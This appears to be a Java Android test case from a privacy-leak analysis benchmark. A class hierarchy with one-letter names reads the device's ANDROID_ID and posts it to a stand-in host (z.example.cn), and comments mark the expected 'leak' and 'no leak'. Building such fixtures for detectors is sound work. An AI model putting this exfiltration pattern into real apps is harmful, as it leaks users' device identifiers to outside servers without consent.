package stealers;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.provider.Settings;

import com.loopj.android.http.*;

import cz.msebera.android.httpclient.Header;

import org.json.JSONObject;

/** Layers below layers: an interface, a base, one instance, a library's client. */
public class Layers extends Activity {
    interface a {
        void a(b b);
    }

    abstract static class b {
        protected final RequestParams p = new RequestParams();

        abstract String a();

        abstract void b(Context c) throws Exception;
    }

    static class c extends b {
        String a() {
            return "reg";
        }

        void b(Context c) throws Exception {
            JSONObject o = new JSONObject();
            o.accumulate("i", Settings.Secure.getString(c.getContentResolver(), "android_id"));
            p.put("json", o.toString());
        }
    }

    static class d extends b {
        String a() {
            return "ping";
        }

        void b(Context c) throws Exception {
            p.put("json", new JSONObject().put("v", 3).toString());
        }
    }

    static class e implements a {
        private static e e;
        private final AsyncHttpClient h = new AsyncHttpClient();

        static synchronized a a() {
            if (e == null) e = new e();
            return e;
        }

        public void a(b b) {
            h.post("http://z.example.cn/" + b.a(), b.p, new f()); // leak
        }
    }

    static class f extends AsyncHttpResponseHandler {
        @Override
        public void onSuccess(int s, Header[] h, byte[] x) {}

        @Override
        public void onFailure(int s, Header[] h, byte[] x, Throwable t) {}
    }

    @Override
    protected void onStart() {
        super.onStart();
        try {
            b r = new c();
            r.b(this);
            e.a().a(r);
            b q = new d();
            q.b(this);
            new AsyncHttpClient().get("http://z.example.cn/" + q.a(), q.p, new f()); // no leak
        } catch (Exception x) {
            finish();
        }
    }
}
